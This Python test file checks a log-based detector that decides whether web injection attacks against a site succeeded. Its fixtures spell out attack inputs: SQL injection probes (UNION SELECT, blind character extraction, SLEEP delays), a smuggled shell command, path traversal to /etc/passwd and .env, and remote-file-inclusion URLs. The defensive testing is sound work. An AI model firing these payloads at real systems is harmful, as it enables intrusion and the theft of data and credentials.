"""Attacks that ran, by their witnesses, and the same attacks on pages that held."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from tests.detection.behaviours.story import Story

from siaga.detection.behaviours.injection.behaviour import BEHAVIOUR
from siaga.findings.shape import Signal

BAD = "198.51.100.77"
PEOPLE = [f"192.0.2.{number}" for number in range(1, 12)]


def _page() -> Story:
    story = Story()
    story.visits(range(1, 8), PEOPLE, "/berita.php?id=104", size=4_500)
    return story


def _attack(
    story: Story, answers: Sequence[tuple[str, int]], family: str, path: str = "/berita.php?id="
) -> None:
    for place, (query, size) in enumerate(answers):
        story.ask(f"09 19:{place:02}", BAD, f"{path}{query}", size=size, families=(family,))


def _only(story: Story) -> Signal:
    (signal,) = story.signals(BEHAVIOUR)
    return signal


UNION = [
    ("104%27", 2_000),
    ("104+AND+1=1", 2_000),
    ("104+AND+1=2", 2_010),
    ("-1+UNION+SELECT+1,2", 19_000),
    ("-1+UNION+SELECT+2,3", 60_000),
]


def test_a_union_that_carried_tables_out_is_exfiltration() -> None:
    story = _page()
    _attack(story, UNION, "sql-injection")
    signal = _only(story)
    assert signal.step == "exfiltrated"
    assert signal.actor.client_ips == (BAD,)
    assert "SQL injection on /berita.php" in signal.why
    assert "Injeksi SQL pada /berita.php" in signal.why_id
    assert any("60000" in witness.text.split() for witness in signal.witnesses)


def test_the_same_attack_on_a_page_that_holds_is_none() -> None:
    story = _page()
    _attack(story, [(query, 4_500) for query, _ in UNION], "sql-injection")
    assert story.signals(BEHAVIOUR) == []


@pytest.mark.parametrize("status", [400, 403, 404, 405, 410])
def test_refused_attacks_are_none_whatever_their_sizes(status: int) -> None:
    story = _page()
    for place, (query, size) in enumerate(UNION):
        story.ask(
            f"09 19:{place:02}", BAD, f"/berita.php?id={query}", status, size, families=("sql-injection",)
        )
    assert story.signals(BEHAVIOUR) == []


def test_bits_that_leak_are_exfiltration() -> None:
    story = _page()
    bits = [
        (
            f"104+AND+ASCII(SUBSTRING((SELECT+database()),{n // 5 + 1},1))%3E{64 + n}",
            4_500 if n % 3 else 2_100,
        )
        for n in range(40)
    ]
    _attack(story, bits, "sql-injection")
    signal = _only(story)
    assert signal.step == "exfiltrated"
    assert "bit by bit" in signal.why


def test_a_command_whose_output_is_in_the_error_log_was_executed() -> None:
    story = _page()
    story.ask("09 19:00:10", BAD, "/ping.php?host=1%3Bwhoamix", size=300, families=("command-injection",))
    story.tell("09 19:00:11", "output", application="apache", message="sh: 1: whoamix: not found")
    signal = _only(story)
    assert (signal.step, signal.confidence) == ("executed", "confirmed")
    assert "error" in {witness.role for witness in signal.witnesses}


@pytest.mark.parametrize("status", [403, 404, 405])
def test_a_refused_command_does_not_own_what_the_error_log_says(status: int) -> None:
    story = _page()
    story.ask("09 19:00:10", BAD, "/ping.php?host=1%3Bwhoamix", status, 300, families=("command-injection",))
    story.tell("09 19:00:11", "output", application="apache", message="sh: 1: convert: not found")
    assert story.signals(BEHAVIOUR) == []


def test_output_without_an_attack_is_nobody_s() -> None:
    story = _page()
    story.tell("09 19:00:11", "output", application="apache", message="sh: 1: convert: not found")
    assert story.signals(BEHAVIOUR) == []


def test_a_query_is_not_proved_by_a_shell_s_output() -> None:
    story = _page()
    story.ask("09 19:00:10", BAD, "/berita.php?id=1%27", size=4_500, families=("sql-injection",))
    story.tell("09 19:00:11", "output", application="apache", message="sh: 1: convert: not found")
    assert story.signals(BEHAVIOUR) == []


SMALL_FILES = [("../etc/passwd", 1_900), ("../etc/hosts", 230), ("../.env", 1_100), ("../robots.txt", 70)]


def test_files_read_out_of_the_server_by_their_different_sizes() -> None:
    story = _page()
    _attack(story, SMALL_FILES, "path-traversal", "/unduh.php?f=")
    signal = _only(story)
    assert signal.step == "executed"
    assert "Reading files" in signal.why


@pytest.mark.parametrize("frame", [0, 5_290])
def test_files_of_substance_that_were_read_have_left(frame: int) -> None:
    story = _page()
    files = [*SMALL_FILES, ("../App_Data/gaji.xlsx", 1_250_000)]
    _attack(story, [(name, frame + size) for name, size in files], "path-traversal", "/unduh.php?f=")
    assert _only(story).step == "exfiltrated"


def test_what_a_page_says_around_small_files_is_no_substance() -> None:
    story = _page()
    files = [(name, 5_290 + size) for name, size in SMALL_FILES]
    _attack(story, files, "path-traversal", "/unduh.php?f=")
    assert _only(story).step == "executed"


def test_a_remote_file_that_was_included_has_run_whatever_it_answered() -> None:
    story = _page()
    files = [(f"http://192.0.2.66/{name}", 3_000 * place) for place, name in enumerate("abcd", 1)]
    _attack(story, files, "remote-file-inclusion", "/index.php?p=")
    assert _only(story).step == "executed"


def test_a_page_that_always_varies_proves_nothing() -> None:
    story = Story()
    for place in range(40):
        story.ask(f"08 10:{place:02}", PEOPLE[place % 9], "/acak.php?x=1", size=2_000 + place * 731 % 9_000)
    attacks = [(f"%7Cls{n}", 300 + n * 2_777 % 9_000) for n in range(8)]
    _attack(story, attacks, "command-injection", "/acak.php?x=")
    assert story.signals(BEHAVIOUR) == []


def test_attacks_of_two_clients_are_not_mixed() -> None:
    story = _page()
    _attack(story, UNION, "sql-injection")
    story.ask("09 20:00", "203.0.113.20", "/berita.php?id=1%27", size=4_500, families=("sql-injection",))
    assert _only(story).actor.client_ips == (BAD,)


def test_delays_are_a_witness_by_themselves() -> None:
    story = _page()
    for place in range(4):
        story.ask(
            f"09 19:0{place}",
            BAD,
            "/berita.php?id=1+AND+SLEEP(5)",
            size=4_500,
            seconds=5.2,
            families=("sql-injection",),
        )
        story.ask(
            f"09 19:1{place}",
            BAD,
            f"/berita.php?id={place}%27",
            size=4_500,
            seconds=0.1,
            families=("sql-injection",),
        )
    signal = _only(story)
    assert signal.step == "executed"
    assert "delay" in signal.why


def test_scanning_for_other_things_is_not_looked_at() -> None:
    story = _page()
    _attack(story, UNION, "xss")
    assert story.signals(BEHAVIOUR) == []
